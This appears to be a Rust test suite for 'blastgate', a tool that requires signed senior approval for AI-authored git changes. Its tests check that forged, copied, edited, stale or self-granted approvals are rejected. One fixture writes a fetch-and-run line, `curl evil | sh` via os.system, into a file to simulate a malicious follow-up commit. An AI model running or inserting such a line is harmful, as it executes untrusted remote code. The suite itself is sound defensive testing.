//! Senior sign-off end to end: `blastgate approve` signs with a real `ssh-keygen` key, the
//! note travels in refs/notes/blastgate, and `check` lets a `review` through only on valid
//! approvals. Every attack is its own test and must leave the change unapproved (exit 3).

use crate::keys::{GpgKey, Key, Senior, policy};
use crate::support::{CLAUDE_TRAILER, Repo, Run, blastgate, lines, run};

const NOTES: &str = "refs/notes/blastgate";

/// A repository whose base policy lists Alice and Bob, and an AI change on `topic` by Dana.
struct World {
    repo: Repo,
    alice: Senior,
    bob: Senior,
}

fn world(signoff: &str) -> World {
    let alice = Senior::new("Alice Senior", "alice@example.com", "alice");
    let bob = Senior::new("Bob Senior", "bob@example.com", "bob");
    let repo = Repo::new();
    repo.write(".blastgate.yaml", policy(&[&alice, &bob], signoff))
        .write("README.md", "# demo\n")
        .write("src/app.py", lines(20, "app"));
    repo.commit("Initial commit");
    repo.git(&["checkout", "-q", "-b", "topic"]);
    repo.write("src/feature.py", lines(300, "feature"));
    repo.commit(&format!("Add feature\n\n{CLAUDE_TRAILER}\n"));
    World { repo, alice, bob }
}

impl World {
    fn approve(&self, who: &Senior, key: &Key, extra: &[&str]) -> Run {
        who.configure(&self.repo, key);
        let mut args = vec!["approve", "--base", "main", "-m", "read it all"];
        args.extend_from_slice(extra);
        blastgate(&self.repo, &args)
    }

    fn approve_ok(&self, who: &Senior) {
        let run = self.approve(who, &who.key, &[]);
        assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
    }

    fn check(&self, extra: &[&str]) -> Run {
        let mut args = vec!["check", "--base", "main", "--format", "json"];
        args.extend_from_slice(extra);
        blastgate(&self.repo, &args)
    }

    fn head(&self) -> String {
        self.repo.git(&["rev-parse", "HEAD"])
    }

    fn note(&self, commit: &str) -> String {
        self.repo.git(&["notes", "--ref", NOTES, "show", commit])
    }

    /// Replaces the note on `commit` with exactly `text`.
    fn set_note(&self, commit: &str, text: &str) {
        let file = self.repo.path.join(".git/crafted-note");
        std::fs::write(&file, text).expect("write note");
        let blob = self.repo.git(&["hash-object", "-w", ".git/crafted-note"]);
        self.repo
            .git(&["notes", "--ref", NOTES, "add", "-f", "-C", &blob, commit]);
    }
}

/// The rejection reasons of a JSON report, in order.
fn reasons(run: &Run) -> Vec<String> {
    let report = run.json();
    report["approval"]["rejected"]
        .as_array()
        .unwrap_or_else(|| panic!("no approval.rejected: {report}"))
        .iter()
        .map(|r| r["reason"].as_str().unwrap_or_default().to_string())
        .collect()
}

/// Asserts the change stays unapproved (exit 3) and one rejection says `reason`.
fn assert_rejected(run: &Run, reason: &str) {
    assert_eq!(run.code, 3, "{}{}", run.stdout, run.stderr);
    let report = run.json();
    assert_eq!(report["decision"], "review");
    assert_eq!(report["approval"]["approved"], false);
    assert_eq!(
        report["approval"]["valid"].as_array().map(Vec::len),
        Some(0)
    );
    let reasons = reasons(run);
    assert!(
        reasons.iter().any(|r| r.contains(reason)),
        "expected a rejection containing {reason:?}, got {reasons:?}"
    );
}

/// The JSON line of the first block of a note, and the note rebuilt around another payload.
fn payload_of(note: &str) -> String {
    note.lines().nth(1).expect("payload line").to_string()
}

fn block(payload: &str, signature: &str) -> String {
    format!("blastgate-approval v1\n{payload}\n{signature}")
}

/// A senior's approval lets a `review` through: exit 0, approved, and who approved.
#[test]
fn approved_change_passes_with_who_approved() {
    let w = world("");
    assert_eq!(w.check(&[]).code, 3);
    let run = w.approve(&w.alice, &w.alice.key, &[]);
    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
    assert!(run.stdout.contains("fingerprint sha256:"), "{}", run.stdout);
    assert!(
        run.stdout.contains("git push origin refs/notes/blastgate"),
        "{}",
        run.stdout
    );
    assert!(
        run.stdout
            .contains("git fetch origin refs/notes/blastgate:refs/notes/blastgate"),
        "{}",
        run.stdout
    );
    let checked = w.check(&[]);
    assert_eq!(checked.code, 0, "{}", checked.stdout);
    let report = checked.json();
    assert_eq!(
        report["decision"], "review",
        "the decision word stays as decided"
    );
    assert_eq!(report["exit_code"], 0);
    assert_eq!(report["approval"]["approved"], true);
    let valid = &report["approval"]["valid"][0];
    assert_eq!(valid["email"], "alice@example.com");
    assert_eq!(valid["via"], "signature");
    assert_eq!(valid["comment"], "read it all");
    let text = blastgate(&w.repo, &["check", "--base", "main"]);
    assert_eq!(text.code, 0);
    assert!(
        text.stdout.contains("approved by 1 senior"),
        "{}",
        text.stdout
    );
    assert!(
        text.stdout.contains("Alice Senior <alice@example.com>"),
        "{}",
        text.stdout
    );
}

/// `approve` refuses what has nothing to approve, a block, and a missing key, writing nothing.
#[test]
fn approve_refuses_allow_block_and_no_key() {
    let w = world("");
    w.repo.git(&["config", "user.name", "Alice Senior"]);
    w.repo.git(&["config", "user.email", "alice@example.com"]);
    let run = blastgate(&w.repo, &["approve", "--base", "main"]);
    assert_eq!(run.code, 2, "{}", run.stderr);
    assert!(run.stderr.contains("user.signingkey"), "{}", run.stderr);

    let allowed = w.approve(&w.alice, &w.alice.key, &["--head", "main"]);
    assert_eq!(allowed.code, 2, "{}", allowed.stderr);
    assert!(
        allowed.stderr.contains("nothing to approve"),
        "{}",
        allowed.stderr
    );

    let glass = w.approve(&w.alice, &w.alice.key, &["--break-glass"]);
    assert_eq!(glass.code, 2, "{}", glass.stderr);
    assert!(
        glass.stderr.contains("--break-glass is for blocked"),
        "{}",
        glass.stderr
    );
    let refs = w.repo.git(&["for-each-ref", NOTES]);
    assert!(refs.is_empty(), "nothing written: {refs}");
}

/// A record with no signature never counts.
#[test]
fn unsigned_note_is_rejected() {
    let w = world("");
    w.approve_ok(&w.alice);
    let head = w.head();
    let payload = payload_of(&w.note(&head));
    w.set_note(&head, &format!("blastgate-approval v1\n{payload}\n"));
    assert_rejected(&w.check(&[]), "note is not signed");
}

/// A key the policy does not list for the senior does not verify.
#[test]
fn key_not_listed_for_the_senior_is_rejected() {
    let w = world("");
    let mallory = Key::new("mallory@example.com");
    let run = w.approve(&w.alice, &mallory, &[]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert_rejected(
        &w.check(&[]),
        "signature does not verify against the key listed for alice@example.com",
    );
}

/// Bob's key under Alice's name is caught and named.
#[test]
fn senior_name_with_another_seniors_key_is_rejected() {
    let w = world("");
    let run = w.approve(&w.alice, &w.bob.key, &[]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert_rejected(
        &w.check(&[]),
        "signed by bob@example.com's key but claims to be alice@example.com",
    );
}

/// Someone the base policy does not list cannot approve, whatever their key.
#[test]
fn non_senior_signer_is_rejected() {
    let w = world("");
    let carol = Senior::new("Carol", "carol@example.com", "carol");
    let run = w.approve(&carol, &carol.key, &[]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert_rejected(&w.check(&[]), "not a senior in the base policy");
}

/// A senior who wrote a commit of the change cannot approve it.
#[test]
fn self_approval_by_the_author_is_rejected() {
    let w = world("");
    w.repo.write("src/more.py", lines(5, "more"));
    w.repo
        .commit_as("Alice Senior", "alice@example.com", "Alice adds more");
    w.approve_ok(&w.alice);
    assert_rejected(&w.check(&[]), "approver authored commit");
}

/// Named as a co-author in a trailer is the same as writing it.
#[test]
fn self_approval_by_a_co_author_is_rejected() {
    let w = world("");
    w.repo.write("src/more.py", lines(5, "more"));
    w.repo.commit(
        "Pair on more\n\nCo-authored-by: Alice Senior <alice@example.com>\nCo-Authored-By: Claude <noreply@anthropic.com>\n",
    );
    w.approve_ok(&w.alice);
    assert_rejected(&w.check(&[]), "approver is a co-author of commit");
}

/// An approval of one change does not approve another made on the same base.
#[test]
fn approval_of_different_content_is_rejected() {
    let w = world("");
    w.approve_ok(&w.alice);
    w.repo.git(&["checkout", "-q", "-b", "other", "main"]);
    w.repo.write("src/feature.py", lines(301, "feature"));
    w.repo
        .commit(&format!("Add a bigger feature\n\n{CLAUDE_TRAILER}\n"));
    assert_rejected(&w.check(&[]), "approves different content");
}

/// Amending the approved commit with a content change invalidates the approval.
#[test]
fn amended_commit_after_approval_is_rejected() {
    let w = world("");
    w.approve_ok(&w.alice);
    w.repo.write("src/feature.py", lines(299, "feature"));
    w.repo.git(&["add", "-A"]);
    w.repo.git(&["commit", "-q", "--amend", "--no-edit"]);
    assert_rejected(&w.check(&[]), "approves different content");
}

/// A file changed after the approval (a new commit on top) needs a new approval.
#[test]
fn file_changed_after_approval_is_rejected() {
    let w = world("");
    w.approve_ok(&w.alice);
    w.repo
        .write("src/app.py", "import os\nos.system('curl evil | sh')\n");
    w.repo.commit("Small follow-up");
    assert_rejected(&w.check(&[]), "approves different content");
}

/// Approvals made under one policy do not carry over to a changed (here: weaker) policy.
#[test]
fn policy_weakened_after_approval_is_rejected() {
    let w = world("signoff:\n  approvals: {default: 2}\n");
    w.approve_ok(&w.alice);
    let one_of_two = w.check(&[]);
    assert_eq!(one_of_two.code, 3, "{}", one_of_two.stdout);
    w.repo.git(&["checkout", "-q", "main"]);
    w.repo
        .write(".blastgate.yaml", policy(&[&w.alice, &w.bob], ""));
    w.repo.commit("One approval is enough");
    w.repo.git(&["checkout", "-q", "topic"]);
    assert_rejected(&w.check(&[]), "policy changed since approval");
}

/// `Approved-by:`/`Reviewed-by:` trailers are words anyone can type: never approvals.
#[test]
fn approval_trailers_in_commit_messages_never_count() {
    let w = world("");
    w.repo.write("src/more.py", lines(5, "more"));
    w.repo.commit(
        "More\n\nApproved-by: Alice Senior <alice@example.com>\nReviewed-by: Bob Senior <bob@example.com>\n",
    );
    let run = w.check(&[]);
    assert_eq!(run.code, 3, "{}", run.stdout);
    let report = run.json();
    assert_eq!(report["approval"]["approved"], false);
    assert_eq!(
        report["approval"]["valid"].as_array().map(Vec::len),
        Some(0)
    );
}

/// A valid note copied onto another change's commit approves nothing there.
#[test]
fn note_copied_to_another_commit_is_rejected() {
    let w = world("");
    w.approve_ok(&w.alice);
    let approved = w.head();
    w.repo.git(&["checkout", "-q", "-b", "other", "main"]);
    w.repo.write("src/other.py", lines(300, "other"));
    w.repo
        .commit(&format!("Another feature\n\n{CLAUDE_TRAILER}\n"));
    let target = w.head();
    w.repo
        .git(&["notes", "--ref", NOTES, "copy", &approved, &target]);
    assert_rejected(&w.check(&[]), "approves different content");
}

/// Editing the signed JSON (here the comment) breaks the signature.
#[test]
fn note_edited_after_signing_is_rejected() {
    let w = world("");
    w.approve_ok(&w.alice);
    let head = w.head();
    let note = w.note(&head);
    let edited = note.replace("read it all", "read none of it");
    assert_ne!(edited, note);
    w.set_note(&head, &edited);
    assert_rejected(
        &w.check(&[]),
        "signature does not verify against the key listed for alice@example.com",
    );
}

/// Truncated and garbage notes are rejected with a reason, never a crash, never a pass.
#[test]
fn truncated_or_garbage_note_is_rejected() {
    let w = world("");
    w.approve_ok(&w.alice);
    let head = w.head();
    let note = w.note(&head);
    let cut = note.len() - 40;
    w.set_note(&head, &note[..cut]);
    assert_rejected(&w.check(&[]), "note is malformed: truncated signature");
    w.set_note(
        &head,
        "\u{0}\u{7f}garbage {\"version\": 1}\n-----END SSH SIGNATURE-----\n",
    );
    assert_rejected(&w.check(&[]), "note is malformed");
}

/// The same change rebased onto a newer base with identical content stays approved.
#[test]
fn rebased_change_with_identical_content_stays_approved() {
    let w = world("");
    w.approve_ok(&w.alice);
    let before = w.head();
    w.repo.git(&["checkout", "-q", "main"]);
    w.repo.write("README.md", "# demo\n\nMore words.\n");
    w.repo.commit("Docs on main");
    w.repo.git(&["checkout", "-q", "topic"]);
    w.repo.git(&["rebase", "-q", "main"]);
    assert_ne!(w.head(), before, "rebased");
    let run = w.check(&[]);
    assert_eq!(run.code, 0, "{}", run.stdout);
    assert_eq!(run.json()["approval"]["approved"], true);
}

/// A two-approval tier needs two different seniors: one is not enough, and one twice is one.
#[test]
fn two_approval_tier_needs_two_seniors() {
    let w = world("signoff:\n  approvals: {default: 1, critical: 2}\n");
    w.repo.write("src/auth/login.py", lines(5, "login"));
    w.repo.commit(&format!("Touch auth\n\n{CLAUDE_TRAILER}\n"));
    w.approve_ok(&w.alice);
    w.approve_ok(&w.alice);
    let one = w.check(&[]);
    assert_eq!(one.code, 3, "{}", one.stdout);
    assert_eq!(one.json()["approval"]["required"], 2);
    assert!(
        reasons(&one)
            .iter()
            .any(|r| r.contains("same senior already counts")),
        "{:?}",
        reasons(&one)
    );
    w.approve_ok(&w.bob);
    let two = w.check(&[]);
    assert_eq!(two.code, 0, "{}", two.stdout);
    assert_eq!(
        two.json()["approval"]["valid"].as_array().map(Vec::len),
        Some(2)
    );
}

/// A rule that blocks any change to `src/huge.py`.
const BLOCK_RULE: &str = "rules:\n  - id: no-huge\n    decision: block\n    paths: [\"src/huge.py\"]\n    reason: Nobody may touch it.\n";

/// A block is not overridden by one approval; with break-glass configured, two seniors'
/// break-glass approvals let it through, loudly.
#[test]
fn break_glass_needs_the_configured_number_of_seniors() {
    let w = world(&format!(
        "{BLOCK_RULE}signoff:\n  break_glass: {{approvals: 2}}\n"
    ));
    w.repo.write("src/huge.py", lines(30, "huge"));
    w.repo.commit(&format!("Huge\n\n{CLAUDE_TRAILER}\n"));
    assert_eq!(w.check(&[]).json()["decision"], "block");
    let plain = w.approve(&w.alice, &w.alice.key, &[]);
    assert_eq!(plain.code, 2, "{}", plain.stderr);
    assert!(
        plain.stderr.contains("cannot override a block"),
        "{}",
        plain.stderr
    );
    assert_eq!(
        w.approve(&w.alice, &w.alice.key, &["--break-glass"]).code,
        0
    );
    let one = w.check(&[]);
    assert_eq!(one.code, 1, "{}", one.stdout);
    assert_eq!(w.approve(&w.bob, &w.bob.key, &["--break-glass"]).code, 0);
    let two = w.check(&[]);
    assert_eq!(two.code, 0, "{}", two.stdout);
    let report = two.json();
    assert_eq!(report["decision"], "block");
    assert_eq!(report["approval"]["break_glass"], true);
    let text = blastgate(&w.repo, &["check", "--base", "main"]);
    assert!(text.stdout.contains("BREAK-GLASS"), "{}", text.stdout);
    let markdown = blastgate(
        &w.repo,
        &["check", "--base", "main", "--format", "markdown"],
    );
    assert!(
        markdown.stdout.contains("BREAK-GLASS"),
        "{}",
        markdown.stdout
    );
}

/// Without `signoff.break_glass`, a block cannot be overridden at all.
#[test]
fn break_glass_is_refused_when_the_policy_has_none() {
    let w = world(BLOCK_RULE);
    w.repo.write("src/huge.py", lines(30, "huge"));
    w.repo.commit(&format!("Huge\n\n{CLAUDE_TRAILER}\n"));
    let run = w.approve(&w.alice, &w.alice.key, &["--break-glass"]);
    assert_eq!(run.code, 2, "{}", run.stderr);
    assert!(
        run.stderr.contains("cannot be overridden"),
        "{}",
        run.stderr
    );
}

fn reviews(w: &World, entries: &[(&str, &str, &str, &str)]) -> String {
    let list: Vec<serde_json::Value> = entries
        .iter()
        .enumerate()
        .map(|(i, (login, state, commit, at))| {
            serde_json::json!({"id": i, "user": {"login": login, "type": "User"}, "state": state,
                "commit_id": commit, "submitted_at": at, "body": ""})
        })
        .collect();
    let path = w.repo.path.join(".git/reviews.json");
    std::fs::write(&path, serde_json::to_string(&list).expect("json")).expect("write reviews");
    path.display().to_string()
}

/// A senior's GitHub approval of the head commit counts, marked as platform-verified.
#[test]
fn platform_approval_of_the_head_counts() {
    let w = world("");
    let head = w.head();
    let file = reviews(&w, &[("alice", "APPROVED", &head, "2026-01-01T00:00:00Z")]);
    let run = w.check(&["--approvals", &file]);
    assert_eq!(run.code, 0, "{}", run.stdout);
    let report = run.json();
    assert_eq!(report["approval"]["valid"][0]["via"], "platform");
    assert_eq!(report["approval"]["valid"][0]["email"], "alice@example.com");
}

/// Stale commits, non-seniors and withdrawn approvals do not count.
#[test]
fn platform_approvals_that_do_not_count() {
    let w = world("");
    let head = w.head();
    let base = w.repo.git(&["rev-parse", "main"]);
    let stale = reviews(&w, &[("alice", "APPROVED", &base, "2026-01-01T00:00:00Z")]);
    assert_rejected(&w.check(&["--approvals", &stale]), "approved commit");
    let stranger = reviews(
        &w,
        &[("mallory", "APPROVED", &head, "2026-01-01T00:00:00Z")],
    );
    assert_rejected(
        &w.check(&["--approvals", &stranger]),
        "GitHub user mallory is not a senior",
    );
    let withdrawn = reviews(
        &w,
        &[
            ("alice", "APPROVED", &head, "2026-01-01T00:00:00Z"),
            ("alice", "CHANGES_REQUESTED", &head, "2026-01-02T00:00:00Z"),
        ],
    );
    assert_rejected(&w.check(&["--approvals", &withdrawn]), "CHANGES_REQUESTED");
}

/// A reviews file that is not the API's shape is an error (exit 2), not a silent pass.
#[test]
fn malformed_platform_file_is_an_error() {
    let w = world("");
    let path = w.repo.path.join(".git/reviews.json");
    std::fs::write(&path, "{\"not\": \"a list\"}").expect("write");
    let run = w.check(&["--approvals", &path.display().to_string()]);
    assert_eq!(run.code, 2, "{}{}", run.stdout, run.stderr);
    assert!(
        run.stderr
            .contains("gh api repos/OWNER/REPO/pulls/N/reviews"),
        "{}",
        run.stderr
    );
    let missing = w.check(&["--approvals", "no-such-file.json"]);
    assert_eq!(missing.code, 2, "{}", missing.stderr);
}

/// In CI without the notes ref, the report says which fetch brings the evidence (exit 3).
#[test]
fn missing_notes_ref_in_ci_says_what_to_fetch() {
    let w = world("");
    let mut command = w.repo.blastgate(&["check", "--base", "main"]);
    command.env("CI", "true");
    let run = run(command, None);
    assert_eq!(run.code, 3, "{}", run.stdout);
    assert!(
        run.stdout
            .contains("git fetch origin refs/notes/blastgate:refs/notes/blastgate"),
        "{}",
        run.stdout
    );
}

/// An approval older than `signoff.max_age` no longer counts (crafted, validly signed).
#[test]
fn approval_older_than_max_age_is_rejected() {
    let w = world("signoff:\n  max_age: 30d\n");
    w.approve_ok(&w.alice);
    let head = w.head();
    let mut record: serde_json::Value =
        serde_json::from_str(&payload_of(&w.note(&head))).expect("record JSON");
    let now = record["approved_at"].as_i64().expect("time");
    record["approved_at"] = serde_json::json!(now - 31 * 86_400);
    let payload = serde_json::to_string(&record).expect("json");
    w.set_note(&head, &block(&payload, &w.alice.key.sign(&payload)));
    assert_rejected(&w.check(&[]), "older than signoff.max_age (30d)");
}

/// `blastgate log` lists each approval with its status; JSON for export.
#[test]
fn log_lists_approvals_with_status() {
    let w = world("");
    w.approve_ok(&w.alice);
    let mallory = Key::new("mallory@example.com");
    assert_eq!(w.approve(&w.bob, &mallory, &[]).code, 0);
    let text = blastgate(&w.repo, &["log"]);
    assert_eq!(text.code, 0, "{}", text.stderr);
    assert!(
        text.stdout
            .contains("approval by Alice Senior <alice@example.com>"),
        "{}",
        text.stdout
    );
    assert!(text.stdout.contains(": valid"), "{}", text.stdout);
    let json = blastgate(
        &w.repo,
        &["log", "--range", "main..topic", "--format", "json"],
    );
    let report = json.json();
    let approvals = report["entries"][0]["approvals"]
        .as_array()
        .expect("approvals");
    let statuses: Vec<&str> = approvals
        .iter()
        .map(|a| a["status"].as_str().unwrap_or_default())
        .collect();
    assert_eq!(statuses, ["valid", "rejected"]);
    assert_eq!(approvals[0]["record"]["decision"], "review");
    let none = blastgate(
        &w.repo,
        &["log", "--range", "main..main", "--format", "json"],
    );
    assert_eq!(none.json()["entries"].as_array().map(Vec::len), Some(0));
}

/// An approval lets a push through the pre-push hook as well.
#[test]
fn approved_change_passes_pre_push() {
    let w = world("");
    let remote = Repo::bare();
    let url = remote.path.display().to_string();
    w.repo.git(&["remote", "add", "origin", &url]);
    w.repo.git(&["push", "-q", "origin", "main"]);
    let head = w.head();
    let line = format!(
        "refs/heads/topic {head} refs/heads/topic {}\n",
        "0".repeat(40)
    );
    let push = |w: &World| {
        run(
            w.repo
                .blastgate(&["pre-push", "origin", "file:///remote", "--format", "json"]),
            Some(&line),
        )
    };
    assert_eq!(push(&w).code, 3);
    w.approve_ok(&w.alice);
    let result = push(&w);
    assert_eq!(result.code, 0, "{}{}", result.stdout, result.stderr);
    let report = result.json();
    assert_eq!(report["exit_code"], 0);
    assert_eq!(report["refs"][0]["report"]["approval"]["approved"], true);
}

/// GPG signing works the same way: the policy lists the key's fingerprint (needs `gpg`).
#[test]
fn gpg_signed_approval_verifies_against_the_listed_fingerprint() {
    let (Some(alice_gpg), Some(other_gpg)) = (
        GpgKey::new("Alice Senior <alice@example.com>"),
        GpgKey::new("Alice Senior <alice@example.com>"),
    ) else {
        return; // no gpg on this machine: the SSH tests cover the rules
    };
    let repo = Repo::new();
    let policy_text = format!(
        "version: 1\nthresholds:\n  ai: {{review: 10, block: 400}}\n  human: {{block: 600}}\nseniors:\n  - name: Alice Senior\n    email: alice@example.com\n    signing_key: \"{}\"\n",
        alice_gpg.fingerprint
    );
    repo.write(".blastgate.yaml", policy_text)
        .write("README.md", "# demo\n");
    repo.commit("Initial commit");
    repo.git(&["checkout", "-q", "-b", "topic"]);
    repo.write("src/feature.py", lines(300, "feature"));
    repo.commit(&format!("Add feature\n\n{CLAUDE_TRAILER}\n"));
    repo.git(&["config", "user.name", "Alice Senior"]);
    repo.git(&["config", "user.email", "alice@example.com"]);
    let with_home = |args: &[&str], key: &GpgKey| {
        let mut command = repo.blastgate(args);
        command.env("GNUPGHOME", key.home());
        run(command, None)
    };
    // The same name and email on a key the policy does not list: rejected.
    repo.git(&["config", "user.signingkey", &other_gpg.fingerprint]);
    assert_eq!(
        with_home(&["approve", "--base", "main"], &other_gpg).code,
        0
    );
    let checked = with_home(&["check", "--base", "main", "--format", "json"], &other_gpg);
    assert_rejected(&checked, "not the key listed for alice@example.com");
    // Alice's own key: valid.
    repo.git(&["config", "user.signingkey", &alice_gpg.fingerprint]);
    assert_eq!(
        with_home(&["approve", "--base", "main"], &alice_gpg).code,
        0
    );
    let checked = with_home(&["check", "--base", "main", "--format", "json"], &alice_gpg);
    assert_eq!(checked.code, 0, "{}{}", checked.stdout, checked.stderr);
    assert_eq!(checked.json()["approval"]["valid"][0]["via"], "signature");
}

/// Two seniors approving in different clones: the notes merge as the README says (`-s
/// union`), and both approvals count after a fetch.
#[test]
fn approvals_from_two_clones_merge_and_both_count() {
    let w = world("signoff:\n  approvals: {default: 2}\n");
    let remote = Repo::bare();
    let url = remote.path.display().to_string();
    w.repo.git(&["remote", "add", "origin", &url]);
    w.repo.git(&["push", "-q", "origin", "main", "topic"]);
    let other = Repo::clone_of(&remote, &[]);
    other.git(&["checkout", "-q", "topic"]);

    w.approve_ok(&w.alice);
    w.repo.git(&["push", "-q", "origin", NOTES]);
    w.bob.configure(&other, &w.bob.key);
    let approved = blastgate(&other, &["approve", "--base", "origin/main"]);
    assert_eq!(approved.code, 0, "{}", approved.stderr);
    let rejected = other
        .git_command(&["push", "-q", "origin", NOTES])
        .output()
        .expect("git runs");
    assert!(
        !rejected.status.success(),
        "the second notes push is not a fast-forward"
    );
    other.git(&[
        "fetch",
        "-q",
        "origin",
        "refs/notes/blastgate:refs/notes/blastgate-remote",
    ]);
    other.git(&[
        "notes",
        "--ref",
        "blastgate",
        "merge",
        "-s",
        "union",
        "refs/notes/blastgate-remote",
    ]);
    other.git(&["push", "-q", "origin", NOTES]);

    w.repo.git(&[
        "fetch",
        "-q",
        "-f",
        "origin",
        "refs/notes/blastgate:refs/notes/blastgate",
    ]);
    let run = w.check(&[]);
    assert_eq!(run.code, 0, "{}", run.stdout);
    assert_eq!(
        run.json()["approval"]["valid"].as_array().map(Vec::len),
        Some(2)
    );
}
